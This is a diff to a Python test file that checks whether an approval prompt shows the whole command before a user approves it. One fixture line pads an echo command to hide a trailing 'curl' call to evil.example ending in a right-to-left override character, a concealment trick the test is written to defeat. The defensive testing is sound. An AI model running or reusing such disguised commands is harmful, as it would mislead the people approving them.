@@ -14,6 +14,7 @@ from backburner.core.schedule import Immediate
 from backburner.core.transitions import Brief
 from backburner.ports import Tx
 
+PROMPT = "May I do this?\n" + "It is long. " * 20 + "The end."
 LINE = "echo " + "a" * 4_000 + "; curl https://evil.example/\u202e"
 
 
@@ -52,7 +53,7 @@ def approval(running: Running) -> str:
             id=question_id,
             purpose=Purpose.APPROVAL,
             type=QuestionType.CHOICE,
-            prompt="May I do this?",
+            prompt=PROMPT,
             options=("yes", "no", "always here"),
             binds_to={"calls": [{**call, "digest": "x", "words": None, "whole": False}]},
         )
@@ -66,6 +67,8 @@ def approval(running: Running) -> str:
 def test_the_whole_call_is_shown_before_it_is_approved(
     approval: str, talk: Call, ask: Callable[..., Any]
 ) -> None:
+    # Other programs read the list, so nothing of it is cut.
+    assert any(PROMPT.replace("\n", " ") in line for line in talk("questions").out)
     shown = "\n".join(talk("questions", approval[:12]).out)
     assert "a" * 4_000 in shown
     assert "https://evil.example/\\u202e" in shown
